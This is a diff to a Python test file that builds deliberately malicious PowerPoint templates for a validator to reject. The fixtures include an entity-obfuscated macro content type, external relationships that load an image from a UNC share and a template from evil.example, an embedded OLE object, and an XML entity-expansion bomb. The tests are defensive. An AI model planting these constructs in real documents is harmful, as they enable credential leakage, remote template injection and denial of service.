@@ -532,6 +532,26 @@ def with_macros():
     return changed(branded(), lambda name, part: part.replace(plain, macro) if name == "[Content_Types].xml" else part)
 
 
+def with_macros_in_other_words():
+    """What an XML parser reads as the type of macros, beside a comment with the harmless one."""
+    macro = b"application/vnd.ms-powerpoint.presentation.&#109;acroEnabled.main+xml"
+    plain = b"application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
+    types = lambda part: part.replace(plain, macro).replace(b"</Types>", b"<!--" + plain + b"--></Types>")  # noqa: E731
+    return changed(branded(), lambda name, part: types(part) if name == "[Content_Types].xml" else part)
+
+
+def related(kind, target, mode=b""):
+    link = (
+        b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%b" Target="%b"%b/>'
+    )
+    ending = b"</Relationships>"
+    added = link % (kind, target, mode) + ending
+    return changed(
+        branded(),
+        lambda name, part: part.replace(ending, added) if name == "ppt/slideLayouts/_rels/slideLayout1.xml.rels" else part,
+    )
+
+
 def entity():
     bomb = b'<!DOCTYPE p [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>'
     return changed(branded(), lambda name, part: bomb + b"<p>&c;</p>" if name == "ppt/presentation.xml" else part)
@@ -547,6 +567,10 @@ BAD = {
     "unpacks to very much": lambda: zipped(**{"[Content_Types].xml": b"<Types/>", "ppt/media/a.bin": b"\0" * 40_000_000}),
     "cut off": lambda: branded()[:-2000],
     "macros": with_macros,
+    "macros in other words": with_macros_in_other_words,
+    "a picture elsewhere": lambda: related(b"image", b"file:///\\\\evil.example\\share\\x.png", b' TargetMode="External"'),
+    "a template elsewhere": lambda: related(b"attachedTemplate", b"http://evil.example/x", b" TargetMode='&#69;xternal'"),
+    "an embedded program": lambda: related(b"oleObject", b"../embeddings/oleObject1.bin"),
     "no title": untitled,
     "no presentation": lambda: changed(branded(), lambda name, part: b"<a/>" if name == "ppt/presentation.xml" else part),
     "broken XML": lambda: changed(branded(), lambda name, part: part[:100] if name == "ppt/presentation.xml" else part),
@@ -564,6 +588,10 @@ def test_a_file_that_is_no_template_is_refused_in_words(opened, name):
         assert (CHINESE.search(str(refused.value)) is not None) == (lang == "zh")
     with pytest.raises(deck.TemplateError):
         deck.powerpoint(context(opened), told(context(opened), "business"), TITLE, WHEN, content)
+
+
+def test_a_template_with_the_address_of_its_house_serves():
+    deck.check(related(b"hyperlink", b"http://house.example/", b' TargetMode="External"'), translator("zh"))
 
 
 def test_a_template_without_slides_or_notes_serves(opened):
